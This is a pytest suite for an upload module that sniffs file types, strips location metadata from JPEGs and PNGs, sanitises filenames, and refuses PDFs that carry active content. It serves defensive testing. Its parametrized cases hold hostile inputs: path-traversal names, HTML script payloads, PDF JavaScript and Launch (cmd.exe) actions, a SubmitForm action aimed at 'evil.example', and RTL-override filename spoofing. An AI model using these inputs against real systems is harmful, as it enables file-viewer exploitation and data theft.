"""Attachments: type sniffing, metadata removal from JPEG and PNG, file names, local storage.

The test files are assembled here byte by byte, so what each one contains is visible.
"""

from __future__ import annotations

import contextlib
import io
import os
import struct
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pdfs import build_pdf, pypdf_pdf
from PIL import Image

from todoke.procedures.attachments import (
    ALLOWED,
    FileStore,
    LocalFileStore,
    MalformedFile,
    UploadRejected,
    check_pdf,
    check_upload,
    content_disposition,
    decode_image,
    new_key,
    safe_filename,
    sniff,
    stored_name,
    strip_metadata,
)

# --- Building JPEGs -------------------------------------------------------------------------


def segment(marker: int, payload: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(payload) + 2) + payload


SOI = b"\xff\xd8"
EOI = b"\xff\xd9"
APP0 = segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
DQT = segment(0xDB, b"\x00" + bytes(range(1, 65)))
SOF0 = segment(0xC0, b"\x08\x00\x08\x00\x08\x01\x01\x11\x00")
DHT = segment(0xC4, b"\x00" + b"\x01" + b"\x00" * 15 + b"\x00")
SOS = segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
# Scan data with a stuffed FF (FF 00) and a restart marker, both of which belong to the scan.
SCAN = b"\x12\x34\xff\x00\x56\xff\xd0\x78\x9a"
PICTURE = DQT + SOF0 + DHT + SOS + SCAN + EOI

# Tokyo Station, as three Exif rationals (degrees, minutes, seconds × 10000).
LATITUDE = (35, 1, 40, 1, 521234, 10000)
XMP = segment(
    0xE1,
    b"http://ns.adobe.com/xap/1.0/\x00"
    b'<x:xmpmeta><rdf:Description exif:GPSLatitude="35,40.8687N"/></x:xmpmeta>',
)
COMMENT_TEXT = b"Taken at home, Chiyoda 1-9-1"
COM = segment(0xFE, COMMENT_TEXT)


def latitude_bytes(order: str) -> bytes:
    return struct.pack(order + "6I", *LATITUDE)


def exif_app1(orientation: int | None, order: str = "<") -> bytes:
    """Exif with IFD0 (Orientation, GPS IFD pointer) and a GPS IFD holding a latitude."""
    header = (b"II*\x00" if order == "<" else b"MM\x00*") + struct.pack(order + "I", 8)
    entries = []
    if orientation is not None:
        entries.append(struct.pack(order + "HHIHH", 0x0112, 3, 1, orientation, 0))
    ifd0_size = 2 + 12 * (len(entries) + 1) + 4
    gps_ifd = 8 + ifd0_size
    entries.append(struct.pack(order + "HHII", 0x8825, 4, 1, gps_ifd))
    ifd0 = struct.pack(order + "H", len(entries)) + b"".join(entries) + struct.pack(order + "I", 0)
    gps_size = 2 + 12 * 2 + 4
    latitude_at = gps_ifd + gps_size
    gps = (
        struct.pack(order + "H", 2)
        + struct.pack(order + "HHI", 0x0001, 2, 2)
        + b"N\x00\x00\x00"
        + struct.pack(order + "HHII", 0x0002, 5, 3, latitude_at)
        + struct.pack(order + "I", 0)
    )
    tiff = header + ifd0 + gps + latitude_bytes(order)
    return segment(0xE1, b"Exif\x00\x00" + tiff)


def phone_jpeg(orientation: int | None = 6, order: str = "<") -> bytes:
    return SOI + APP0 + exif_app1(orientation, order) + XMP + COM + PICTURE


def header_segments(jpeg: bytes) -> list[tuple[int, bytes]]:
    """(marker, payload) of each segment before SOS; the test files have no fill bytes."""
    assert jpeg.startswith(SOI)
    found, position = [], 2
    while jpeg[position + 1] != 0xDA:
        marker = jpeg[position + 1]
        (length,) = struct.unpack_from(">H", jpeg, position + 2)
        found.append((marker, jpeg[position + 4 : position + 2 + length]))
        position += 2 + length
    return found


def parse_ifd0(exif_payload: bytes) -> tuple[dict[int, int], int]:
    """The SHORT values of IFD0 by tag, and the next-IFD offset."""
    assert exif_payload.startswith(b"Exif\x00\x00")
    tiff = exif_payload[6:]
    order = {b"II*\x00": "<", b"MM\x00*": ">"}[tiff[:4]]
    (ifd0,) = struct.unpack_from(order + "I", tiff, 4)
    (count,) = struct.unpack_from(order + "H", tiff, ifd0)
    values = {}
    for index in range(count):
        tag, field_type, _, value = struct.unpack_from(order + "HHIH", tiff, ifd0 + 2 + 12 * index)
        assert field_type == 3
        values[tag] = value
    (next_ifd,) = struct.unpack_from(order + "I", tiff, ifd0 + 2 + 12 * count)
    return values, next_ifd


# --- Building PNGs --------------------------------------------------------------------------

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


IHDR = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
IDAT = chunk(b"IDAT", zlib.compress(b"\x00\x80"))
IEND = chunk(b"IEND", b"")
TEXT = chunk(b"tEXt", b"Comment\x00GPS 35.6812N 139.7671E")
EXIF = chunk(b"eXIf", b"MM\x00*\x00\x00\x00\x08\x00\x00\x00\x00\x00\x00")
TIME = chunk(b"tIME", struct.pack(">HBBBBB", 2024, 4, 1, 7, 30, 0))
PHONE_PNG = PNG_SIGNATURE + IHDR + TEXT + EXIF + TIME + IDAT + IEND


def png_chunks(png: bytes) -> list[tuple[bytes, bytes, int]]:
    assert png.startswith(PNG_SIGNATURE)
    found, position = [], 8
    while position < len(png):
        length, kind = struct.unpack_from(">I4s", png, position)
        data = png[position + 8 : position + 8 + length]
        (crc,) = struct.unpack_from(">I", png, position + 8 + length)
        found.append((kind, data, crc))
        position += 12 + length
    return found


PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"

# --- sniff ----------------------------------------------------------------------------------


def test_sniff_recognises_the_accepted_types():
    assert sniff(PDF) == "application/pdf"
    assert sniff(phone_jpeg()) == "image/jpeg"
    assert sniff(PHONE_PNG) == "image/png"
    assert set(ALLOWED) == {"application/pdf", "image/jpeg", "image/png"}


def test_sniff_ignores_what_the_file_claims_to_be():
    # A PNG uploaded as "scan.pdf" is a PNG: sniff never sees the name, only the bytes.
    assert sniff(PHONE_PNG) == "image/png"


@pytest.mark.parametrize(
    "data",
    [
        b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
        b"PK\x03\x04\x14\x00\x00\x00",
        b"MZ\x90\x00\x03\x00\x00\x00",
        b'<svg xmlns="http://www.w3.org/2000/svg"/>',
        b"",
        b"%PD is not a PDF",
        b"\xff\xd8",  # SOI alone is not yet a JPEG
        b"\x89PNG",
    ],
)
def test_sniff_refuses_everything_else(data):
    assert sniff(data) is None


# --- JPEG -----------------------------------------------------------------------------------


def test_jpeg_loses_gps_xmp_and_comments_but_keeps_orientation():
    original = phone_jpeg(orientation=6)
    assert latitude_bytes("<") in original  # the test file really carries the latitude

    cleaned = strip_metadata(original, "image/jpeg")

    assert cleaned.startswith(SOI + APP0)
    assert cleaned.endswith(EOI)
    assert latitude_bytes("<") not in cleaned
    assert b"xmpmeta" not in cleaned and b"GPSLatitude" not in cleaned
    assert COMMENT_TEXT not in cleaned
    assert cleaned.count(b"Exif\x00\x00") == 1

    segments = header_segments(cleaned)
    assert [marker for marker, _ in segments] == [0xE0, 0xE1, 0xDB, 0xC0, 0xC4]
    exif = segments[1][1]
    assert len(exif) < 64  # header, one IFD entry, nothing else
    values, next_ifd = parse_ifd0(exif)
    assert values == {0x0112: 6}
    assert next_ifd == 0  # no IFD1, so no thumbnail either


def test_jpeg_picture_bytes_are_untouched():
    cleaned = strip_metadata(phone_jpeg(), "image/jpeg")
    assert cleaned.endswith(PICTURE)


def test_jpeg_without_metadata_passes_unchanged():
    plain = SOI + APP0 + PICTURE
    assert strip_metadata(plain, "image/jpeg") == plain


def test_orientation_1_writes_no_exif():
    cleaned = strip_metadata(phone_jpeg(orientation=1), "image/jpeg")
    assert cleaned == SOI + APP0 + PICTURE


def test_exif_without_orientation_writes_no_exif():
    cleaned = strip_metadata(phone_jpeg(orientation=None), "image/jpeg")
    assert cleaned == SOI + APP0 + PICTURE


def test_big_endian_exif_orientation_is_read():
    original = phone_jpeg(orientation=8, order=">")
    cleaned = strip_metadata(original, "image/jpeg")
    assert latitude_bytes(">") not in cleaned
    exif = dict(header_segments(cleaned))[0xE1]
    assert parse_ifd0(exif)[0] == {0x0112: 8}


def test_orientation_goes_right_after_soi_when_there_is_no_jfif():
    cleaned = strip_metadata(SOI + exif_app1(3) + PICTURE, "image/jpeg")
    segments = header_segments(cleaned)
    assert segments[0][0] == 0xE1
    assert parse_ifd0(segments[0][1])[0] == {0x0112: 3}


def test_jpeg_keeps_icc_and_adobe_and_drops_other_app_segments():
    icc = segment(0xE2, b"ICC_PROFILE\x00\x01\x01" + b"profile")
    mpf = segment(0xE2, b"MPF\x00" + b"index of appended images")
    iptc = segment(0xED, b"Photoshop 3.0\x00" + b"8BIM city=Chiyoda")
    adobe = segment(0xEE, b"Adobe\x00\x64\x00\x00\x00\x00\x01")
    vendor = [segment(marker, b"vendor blob") for marker in (*range(0xE3, 0xED), 0xEF)]
    original = SOI + APP0 + icc + mpf + iptc + adobe + b"".join(vendor) + PICTURE

    cleaned = strip_metadata(original, "image/jpeg")

    assert cleaned == SOI + APP0 + icc + adobe + PICTURE


def test_jpeg_fill_bytes_and_standalone_markers_are_handled():
    tem = b"\xff\x01"
    original = SOI + APP0 + b"\xff\xff\xff" + COM + tem + PICTURE
    assert strip_metadata(original, "image/jpeg") == SOI + APP0 + tem + PICTURE


def test_progressive_jpeg_keeps_every_scan_and_drops_metadata_between_them():
    second_scan = DHT + SOS + b"\xab\xff\x00\xcd"
    original = SOI + APP0 + DQT + SOF0 + DHT + SOS + SCAN + COM + second_scan + EOI
    cleaned = strip_metadata(original, "image/jpeg")
    assert cleaned == SOI + APP0 + DQT + SOF0 + DHT + SOS + SCAN + second_scan + EOI


def test_data_after_eoi_is_dropped():
    # Motion photos append a video, with its own location, after the JPEG's EOI.
    trailer = b"\x00\x00\x00\x18ftypmp42 location +35.68+139.76/"
    cleaned = strip_metadata(SOI + APP0 + PICTURE + trailer, "image/jpeg")
    assert cleaned == SOI + APP0 + PICTURE


# --- PNG ------------------------------------------------------------------------------------


def test_png_loses_text_exif_and_time():
    cleaned = strip_metadata(PHONE_PNG, "image/png")
    assert b"GPS" not in cleaned
    chunks = png_chunks(cleaned)
    assert [kind for kind, _, _ in chunks] == [b"IHDR", b"IDAT", b"IEND"]
    for kind, data, crc in chunks:
        assert zlib.crc32(kind + data) == crc
    assert cleaned == PNG_SIGNATURE + IHDR + IDAT + IEND


def test_png_keeps_other_chunks_in_order():
    srgb = chunk(b"sRGB", b"\x00")
    phys = chunk(b"pHYs", struct.pack(">IIB", 2835, 2835, 1))
    original = PNG_SIGNATURE + IHDR + srgb + TEXT + phys + IDAT + IEND
    assert strip_metadata(original, "image/png") == PNG_SIGNATURE + IHDR + srgb + phys + IDAT + IEND


def test_pdf_is_returned_unchanged():
    assert strip_metadata(PDF, "application/pdf") == PDF


# --- Malformed files ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "content_type"),
    [
        (phone_jpeg()[: len(phone_jpeg()) // 2], "image/jpeg"),  # cut inside the Exif
        ((SOI + APP0 + PICTURE)[:-2], "image/jpeg"),  # scan data without EOI
        (SOI + b"\xff\xe0\x10\x00JFIF", "image/jpeg"),  # length runs past the end
        (SOI + b"\xff\xe0\x00\x01", "image/jpeg"),  # length smaller than itself
        (SOI + APP0 + DQT + EOI, "image/jpeg"),  # no SOS
        (SOI + APP0 + b"garbage" + PICTURE, "image/jpeg"),  # no marker where one must be
        (SOI + b"\xff\xff\xff", "image/jpeg"),  # only fill bytes
        (
            PNG_SIGNATURE + b"\x00\xff\xff\xff" + IHDR[4:] + IDAT + IEND,
            "image/png",
        ),  # chunk length past the end
        (PNG_SIGNATURE + IHDR + IDAT, "image/png"),  # no IEND
        (PNG_SIGNATURE + IHDR + IDAT + IEND[:-1], "image/png"),  # IEND cut off
        (PNG_SIGNATURE + IDAT + IHDR + IEND, "image/png"),  # IHDR not first
        (PNG_SIGNATURE + IHDR + IDAT[:-1] + b"\x00" + IEND, "image/png"),  # wrong CRC
        (PNG_SIGNATURE + IHDR + chunk(b"1234", b"") + IEND, "image/png"),  # bad chunk type
    ],
)
def test_malformed_images_raise(data, content_type):
    with pytest.raises(MalformedFile):
        strip_metadata(data, content_type)


def test_malformed_image_is_refused_on_upload():
    with pytest.raises(UploadRejected) as refused:
        check_upload(phone_jpeg()[:-10], max_bytes=1_000_000)
    assert refused.value.en and refused.value.ja


@settings(max_examples=300, deadline=None)
@given(magic=st.sampled_from([b"\xff\xd8\xff", PNG_SIGNATURE]), rest=st.binary(max_size=512))
def test_random_bytes_after_a_magic_never_crash(magic, rest):
    try:
        content_type, cleaned = check_upload(magic + rest, max_bytes=1_000_000)
    except UploadRejected:
        return
    assert content_type in ("image/jpeg", "image/png")
    assert sniff(cleaned) == content_type


@settings(max_examples=300, deadline=None)
@given(
    original=st.sampled_from([phone_jpeg(), phone_jpeg(order=">"), PHONE_PNG]),
    edits=st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 255)), max_size=4),
    cut=st.integers(0, 10_000),
)
def test_damaged_real_files_never_crash(original, edits, cut):
    damaged = bytearray(original)
    for at, value in edits:
        damaged[at % len(damaged)] = value
    damaged = bytes(damaged[: max(3, len(damaged) - cut % 40)])
    with contextlib.suppress(UploadRejected):
        check_upload(damaged, max_bytes=1_000_000)


# --- check_upload ---------------------------------------------------------------------------


def real_jpeg(comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 8), (0, 128, 255)).save(out, "JPEG", comment=comment)
    return out.getvalue()


def test_check_upload_returns_type_and_cleaned_bytes():
    photo = real_jpeg(b"Taken at home, Chiyoda 1-9-1")
    content_type, cleaned = check_upload(photo, max_bytes=10_000)
    assert content_type == "image/jpeg" and cleaned == strip_metadata(photo, "image/jpeg")
    assert b"Chiyoda" in photo and b"Chiyoda" not in cleaned
    content_type, cleaned = check_upload(PHONE_PNG, max_bytes=10_000)
    assert content_type == "image/png" and b"GPS" not in cleaned
    assert Image.open(io.BytesIO(cleaned)).getpixel((0, 0)) == 0x80
    pdf = pypdf_pdf()
    assert check_upload(pdf, max_bytes=100_000) == ("application/pdf", pdf)


def test_a_jpeg_whose_structure_holds_but_that_does_not_decode_is_refused():
    # Every marker and length holds, but the quantisation table names table 15 (there are
    # four): the structure walk passes it, only a real decoder refuses it.
    photo = real_jpeg()
    table = photo.index(b"\xff\xdb") + 4
    broken = photo[:table] + b"\x0f" + photo[table + 1 :]
    assert strip_metadata(broken, "image/jpeg")
    with pytest.raises(UploadRejected) as refused:
        check_upload(broken, max_bytes=10_000)
    assert "画像" in refused.value.ja


def test_empty_upload_is_refused():
    with pytest.raises(UploadRejected) as refused:
        check_upload(b"", max_bytes=10)
    assert refused.value.ja == "ファイルが空です"
    assert "empty" in refused.value.en


def test_oversized_upload_is_refused_with_the_limit():
    with pytest.raises(UploadRejected) as refused:
        check_upload(PDF, max_bytes=10)
    assert "MB" in refused.value.en and "MB" in refused.value.ja

    with pytest.raises(UploadRejected) as refused:
        check_upload(b"%PDF-" + b"x" * (10 * 1024 * 1024), max_bytes=10 * 1024 * 1024)
    assert "10 MB" in refused.value.en
    assert "10MB" in refused.value.ja


def test_wrong_type_is_refused():
    with pytest.raises(UploadRejected) as refused:
        check_upload(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", max_bytes=1000)
    assert refused.value.ja == "PDF、JPEG、PNGのファイルを添付してください"
    assert refused.value.en == "Attach a PDF, JPEG or PNG file"


# --- safe_filename --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given_name", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\x\\写真.jpg", "写真.jpg"),
        ("年金\x00通知\x1f書\x7f.pdf", "年金通知書.pdf"),
        ('a<b>c:d"e|f?g*h.png', "abcdefgh.png"),
        (".hidden", "hidden"),
        ("...", "file"),
        ("", "file"),
        ("dir/", "dir"),
        ("  住民票の写し.pdf  ", "住民票の写し.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("か\u3099いこくしん.pdf", "がいこくしん.pdf"),  # NFC: が as one character
    ],
)
def test_safe_filename(given_name, expected):
    assert safe_filename(given_name) == expected


def test_long_filename_keeps_its_extension():
    name = safe_filename("書類" * 150 + ".pdf")
    assert len(name) <= 100
    assert name.endswith(".pdf")
    assert name.startswith("書類書類")


def test_long_filename_without_extension_is_cut():
    assert safe_filename("x" * 300) == "x" * 100


# --- LocalFileStore -------------------------------------------------------------------------


def all_files(root: Path) -> list[Path]:
    return sorted(path for path in root.rglob("*") if path.is_file())


async def test_store_round_trip(tmp_path):
    store = LocalFileStore(tmp_path / "attachments")
    assert isinstance(store, FileStore)
    key = new_key()

    await store.put(key, b"scan")

    assert await store.get(key) == b"scan"
    path = tmp_path / "attachments" / key[:2] / key
    assert all_files(tmp_path) == [path]  # no temporary file left behind
    assert path.stat().st_mode & 0o777 == 0o600
    assert path.parent.stat().st_mode & 0o777 == 0o700
    assert (tmp_path / "attachments").stat().st_mode & 0o777 == 0o700


async def test_store_overwrites_atomically(tmp_path):
    store = LocalFileStore(tmp_path)
    key = new_key()
    await store.put(key, b"first")
    await store.put(key, b"second")
    assert await store.get(key) == b"second"
    assert len(all_files(tmp_path)) == 1


async def test_failed_write_leaves_nothing(tmp_path, monkeypatch):
    store = LocalFileStore(tmp_path)

    def failing_fsync(descriptor):
        raise OSError("disk full")

    monkeypatch.setattr(os, "fsync", failing_fsync)
    with pytest.raises(OSError, match="disk full"):
        await store.put(new_key(), b"scan")
    assert all_files(tmp_path) == []


@pytest.mark.parametrize(
    "key",
    ["../x", "a/b", "../../../../etc/passwd", "short", "x" * 65, "a" * 20 + "\n", "a" * 20 + "."],
)
async def test_store_rejects_keys_it_did_not_make(tmp_path, key):
    store = LocalFileStore(tmp_path)
    with pytest.raises(ValueError):
        await store.put(key, b"x")
    with pytest.raises(ValueError):
        await store.get(key)
    with pytest.raises(ValueError):
        await store.delete(key)
    assert all_files(tmp_path) == []


async def test_store_get_unknown_key_raises_key_error(tmp_path):
    with pytest.raises(KeyError):
        await LocalFileStore(tmp_path).get(new_key())


async def test_store_delete_is_idempotent(tmp_path):
    store = LocalFileStore(tmp_path)
    key = new_key()
    await store.put(key, b"scan")
    await store.delete(key)
    await store.delete(key)
    await store.delete(new_key())
    with pytest.raises(KeyError):
        await store.get(key)


def test_new_keys_are_valid_and_distinct():
    keys = {new_key() for _ in range(100)}
    assert len(keys) == 100
    for key in keys:
        LocalFileStore(Path("/nonexistent"))._path(key)


# --- PDF ------------------------------------------------------------------------------------


def refused_pdf(data: bytes) -> UploadRejected:
    with pytest.raises(UploadRejected) as refused:
        check_pdf(data)
    return refused.value


def test_ordinary_pdfs_are_accepted():
    check_pdf(pypdf_pdf())
    check_pdf(build_pdf())
    # What office suites write: open at the first page; a link to a web page; a GoTo.
    check_pdf(build_pdf(b"/OpenAction [3 0 R /XYZ null null 0]"))
    check_pdf(build_pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"))
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://x.jp) >> >>"
    check_pdf(build_pdf(page_extra=b"/Annots [5 0 R]", objects=(link,)))
    # The end of line and padding some writers and scanners put after %%EOF.
    check_pdf(build_pdf(after_eof=b"\r\n\x00\x00  \n"))


@pytest.mark.parametrize(
    ("catalog", "page", "objects"),
    [
        (b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", b"", ()),
        (b"/OpenAction 5 0 R", b"", (b"<< /S /JavaScript /JS 6 0 R >>", b"(app.alert(1))")),
        (
            b"/Names << /JavaScript 5 0 R >>",
            b"",
            (b"<< /Names [(a) 6 0 R] >>", b"<< /S /JavaScript /JS (x) >>"),
        ),
        (b"/OpenAction << /S /Launch /F (cmd.exe) >>", b"", ()),
        (b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>", b"", ()),
        (b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>", b"", ()),
        (b"", b"/AA << /O << /S /JavaScript /JS (x) >> >>", ()),
        (b"/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>", b"", ()),
        (
            b"/Names << /EmbeddedFiles 5 0 R >>",
            b"",
            (
                b"<< /Names [(a.exe) 6 0 R] >>",
                b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            ),
        ),
        (b"/AcroForm << /Fields [] /XFA 5 0 R >>", b"", (b"(<xdp/>)",)),
        # A name spelt with #xx escapes is the same name to a reader.
        (b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>", b"", ()),
        # An object nothing refers to is still looked at.
        (b"", b"", (b"<< /S /JavaScript /JS (app.alert(1)) >>",)),
    ],
)
def test_pdfs_that_can_act_are_refused(catalog, page, objects):
    refused = refused_pdf(build_pdf(catalog, page, objects))
    assert "スクリプト" in refused.ja and "script" in refused.en


@pytest.mark.parametrize(
    "data",
    [
        build_pdf(after_eof=b"\n<html><script>alert(1)</script></html>\n"),
        build_pdf(after_eof=b"\nPK\x05\x06" + b"\x00" * 18),  # a ZIP's end record
        build_pdf(after_eof=b"\n%%EOF junk"),  # the last %%EOF is what counts
    ],
)
def test_bytes_after_the_last_eof_are_refused(data):
    assert "後に別のデータ" in refused_pdf(data).ja


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n",
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
        build_pdf()[:-200] + b"\n%%EOF\n",  # cut off
        b"%PDF-x.y\n" + build_pdf()[9:],  # not a version
        build_pdf().replace(b"%%EOF", b"%%EOX"),  # no end at all
        b"%PDF-1.7\n1 0 obj\n" + b"[" * 100_000 + b"\nendobj\n%%EOF",
    ],
)
def test_files_that_are_not_pdfs_are_refused(data):
    assert "読み取れません" in refused_pdf(data).ja


def test_a_password_protected_pdf_is_refused():
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pypdf_pdf())))
    writer.encrypt(user_password="secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    assert "パスワード" in refused_pdf(out.getvalue()).ja


# --- images: a real decoder -----------------------------------------------------------------


def test_a_png_is_written_again_from_its_pixels_keeping_palette_transparency():
    image = Image.new("P", (4, 4), 1)
    image.putpalette([0, 0, 0, 255, 0, 0] + [0] * 762)
    out = io.BytesIO()
    image.save(out, "PNG", transparency=0, dpi=(300, 300))
    again = Image.open(io.BytesIO(decode_image(out.getvalue() + b"<html>", "image/png")))
    assert again.mode == "P" and again.info["transparency"] == 0
    assert round(again.info["dpi"][0]) == 300
    assert again.tobytes() == bytes([1] * 16)


def test_too_many_pixels_are_refused_before_decoding():
    out = io.BytesIO()
    Image.new("1", (10_000, 5_001)).save(out, "PNG")  # a few KB for 50 million pixels
    with pytest.raises(UploadRejected) as refused:
        decode_image(out.getvalue(), "image/png")
    assert "画素数" in refused.value.ja


# --- names ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "content_type", "expected"),
    [
        ("x.html", "application/pdf", "x.pdf"),
        ("invoice.exe", "application/pdf", "invoice.pdf"),
        ("invoice.pdf.exe", "application/pdf", "invoice.pdf.pdf"),
        ("scan.pdf", "image/png", "scan.png"),
        ("IMG_0001.JPEG", "image/jpeg", "IMG_0001.jpg"),
        ("写真", "image/jpeg", "写真.jpg"),
        ("../../etc/passwd", "image/png", "passwd.png"),
        (".htaccess", "application/pdf", "htaccess.pdf"),
        ("...", "application/pdf", "file.pdf"),
        ("a..html", "application/pdf", "a.pdf"),
        ("invoice\u202efdp.exe", "application/pdf", "invoicefdp.pdf"),
        ("書類" * 150 + ".exe", "application/pdf", "書類" * 48 + ".pdf"),
    ],
)
def test_stored_names_take_the_extension_of_the_content(given, content_type, expected):
    assert stored_name(given, content_type) == expected
    assert stored_name(expected, content_type) == expected  # the same name again


@pytest.mark.parametrize(
    ("name", "header"),
    [
        ("x.pdf", "attachment; filename=\"x.pdf\"; filename*=UTF-8''x.pdf"),
        (
            "住民票 2024.pdf",
            'attachment; filename="2024.pdf"; '
            "filename*=UTF-8''%E4%BD%8F%E6%B0%91%E7%A5%A8%202024.pdf",
        ),
        ("写真.jpg", "attachment; filename=\"file.jpg\"; filename*=UTF-8''%E5%86%99%E7%9C%9F.jpg"),
        (
            "a\\b%41;c.png",
            "attachment; filename=\"ab41c.png\"; filename*=UTF-8''a%5Cb%2541%3Bc.png",
        ),
    ],
)
def test_content_disposition_offers_both_names(name, header):
    assert content_disposition(name) == header


@settings(max_examples=200, deadline=None)
@given(
    edits=st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 255)), max_size=6),
    cut=st.integers(0, 10_000),
)
def test_damaged_pdfs_never_crash(edits, cut):
    damaged = bytearray(build_pdf(b"/OpenAction [3 0 R /Fit]"))
    for at, value in edits:
        damaged[at % len(damaged)] = value
    damaged = bytes(damaged[: max(5, len(damaged) - cut % 200)])
    with contextlib.suppress(UploadRejected):
        check_upload(damaged, max_bytes=1_000_000)
